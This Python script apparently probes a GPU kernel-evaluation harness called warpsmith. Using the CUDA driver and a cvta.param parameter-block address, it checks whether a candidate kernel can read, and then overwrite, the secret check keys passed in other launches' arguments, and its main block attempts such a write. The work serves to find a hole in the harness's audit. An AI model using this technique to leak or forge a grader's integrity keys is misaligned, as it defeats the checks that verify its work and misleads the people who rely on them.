"""Run on a GPU machine (H100/H200, sm_90): python3 param_leak_probe.py
Needs only libcuda.so.1 (ctypes) and param_leak_sm90.cubin beside this file.

Question: can a candidate kernel read (and write) OTHER launches' kernel arguments through
the generic address of its own parameter block (`cvta.param`; SASS loads it from
c[0x0][0x198])? warpsmith passes every secret of its checks as i64 launch arguments
(agent/worker/gpu_checks.py: the reference mask key, fence key + salt, seal key, checksum
key), and the PTX audit refuses cvta.const but not cvta.param.

Each window size runs in a child process (a read of unmapped memory kills the context)."""
import ctypes as C, os, struct, subprocess, sys

HERE = os.path.dirname(os.path.abspath(__file__))
cu = C.CDLL("libcuda.so.1")
def ck(r, what):
    if r != 0:
        s = C.c_char_p(); cu.cuGetErrorName(r, C.byref(s)); raise SystemExit(f"{what}: {s.value.decode()}")

def run(words, first, write_at=-(1 << 62), write_value=0):
    ck(cu.cuInit(0), "cuInit"); dev = C.c_int(); ck(cu.cuDeviceGet(C.byref(dev), 0), "dev")
    ctx = C.c_void_p(); ck(cu.cuDevicePrimaryCtxRetain(C.byref(ctx), dev), "ctx"); ck(cu.cuCtxSetCurrent(ctx), "cur")
    mod = C.c_void_p(); img = open(os.path.join(HERE, "param_leak_sm90.cubin"), "rb").read()
    ck(cu.cuModuleLoadData(C.byref(mod), img), "load")
    fn = {}
    for n in ("victim", "hold", "probe", "bank0_dump"):
        f = C.c_void_p(); ck(cu.cuModuleGetFunction(C.byref(f), mod, n.encode()), n); fn[n] = f
    stream = C.c_void_p(); ck(cu.cuStreamCreate(C.byref(stream), 0), "stream")
    def alloc(nbytes):
        p = C.c_uint64(); ck(cu.cuMemAlloc_v2(C.byref(p), C.c_size_t(nbytes)), "alloc")
        ck(cu.cuMemsetD8_v2(p, 0, C.c_size_t(nbytes)), "memset"); return p
    out = alloc(8 * (words + 1)); seen = [alloc(64) for _ in range(6)]
    hflag = C.c_void_p(); ck(cu.cuMemHostAlloc(C.byref(hflag), 4, 2), "hostalloc")  # DEVICEMAP
    C.memset(hflag, 0, 4); dflag = C.c_uint64(); ck(cu.cuMemHostGetDevicePointer_v2(C.byref(dflag), hflag, 0), "map")
    def launch(f, *args):
        holders = [C.c_uint64(a) if not isinstance(a, bytes) else C.create_string_buffer(a, len(a)) for a in args]
        ptrs = (C.c_void_p * len(holders))(*[C.cast(C.byref(h), C.c_void_p) for h in holders])
        ck(cu.cuLaunchKernel(f, 1, 1, 1, 32, 1, 1, 0, stream, ptrs, None), "launch")
    K = [0x5EC12E7000000000 | (j << 8) | 0xA1 for j in range(6)]  # recognisable "keys"
    launch(fn["hold"], dflag.value, 2_000_000_000)
    for j in range(3):  # earlier launches, like the check of the previous timed launch
        launch(fn["victim"], seen[j].value, K[j], K[j] ^ 0xFFFF, 1000 + j)
    args = struct.pack("<QqqqQ", out.value, words, first, write_at, write_value)
    launch(fn["probe"], args)  # one struct argument
    for j in range(3, 6):  # later launches, enqueued before the probe runs (the after(i) check)
        launch(fn["victim"], seen[j].value, K[j], K[j] ^ 0xFFFF, 1000 + j)
    dump = alloc(8 * 66)
    launch(fn["bank0_dump"], struct.pack("<Qq", dump.value, 66))  # bank 0's 0x210 driver bytes
    C.c_uint32.from_address(hflag.value).value = 1
    ck(cu.cuStreamSynchronize(stream), "sync (a fault here: the window reaches unmapped memory)")
    buf = (C.c_uint64 * (words + 1))(); ck(cu.cuMemcpyDtoH_v2(buf, out, 8 * (words + 1)), "dtoh")
    print(f"param block at 0x{buf[words]:x}; window words [{first}, {first + words})")
    b0 = (C.c_uint64 * 66)(); ck(cu.cuMemcpyDtoH_v2(b0, dump, 8 * 66), "dtoh")
    print("  bank 0 c[0x0][0x0..0x210) via ld.param:", " ".join(f"[0x{8*i:x}]=0x{b0[i]:x}" for i in range(66) if b0[i]))
    for i in range(words):
        v = buf[i]
        for j, k in enumerate(K):
            if v in (k, k ^ 0xFFFF):
                print(f"  word {first + i:+d}: {'k0' if v == k else 'k1'} of victim #{j} "
                      f"({'earlier' if j < 3 else 'LATER, not yet run'} launch)")
    if words <= 1024:
        print("  non-zero words (possible device pointers are ~0x7f.. or 0x3.. values):")
        print("   " + " ".join(f"{first + i:+d}:0x{buf[i]:x}" for i in range(words) if buf[i]))
    for j in range(6):
        s = (C.c_uint64 * 3)(); ck(cu.cuMemcpyDtoH_v2(s, seen[j], 24), "dtoh")
        print(f"  victim #{j} saw k0=0x{s[0]:x} k1=0x{s[1]:x} n={s[2]}" + ("   <-- REWRITTEN" if s[0] != K[j] else ""))

if __name__ == "__main__":
    if len(sys.argv) > 1:
        run(*[int(a, 0) for a in sys.argv[1:]]); sys.exit(0)
    for words, first in ((64, -32), (1024, -512), (8192, -4096), (65536, -32768)):
        print(f"== read {words} words from {first}", flush=True)
        r = subprocess.run([sys.executable, __file__, str(words), str(first)], capture_output=True, text=True, timeout=60)
        print(r.stdout + r.stderr, flush=True)
    import re as _re
    for words, first in ((65536, -32768), (8192, -4096), (1024, -512)):
        r = subprocess.run([sys.executable, __file__, str(words), str(first)], capture_output=True, text=True, timeout=60)
        later = _re.findall(r"word ([+-]\d+): k0 of victim #[345]", r.stdout)
        if later:
            print(f"== write 0x1234 at word {later[0]} (a later victim's k0)", flush=True)
            r = subprocess.run([sys.executable, __file__, str(words), str(first), later[0], "0x1234"], capture_output=True, text=True, timeout=60)
            print("\n".join(l for l in (r.stdout + r.stderr).splitlines() if "victim #" in l or "sync" in l), flush=True)
            break
    print("To test a write: python3 param_leak_probe.py WORDS FIRST WRITE_AT 0x1234 with WRITE_AT a LATER victim's k0 word")
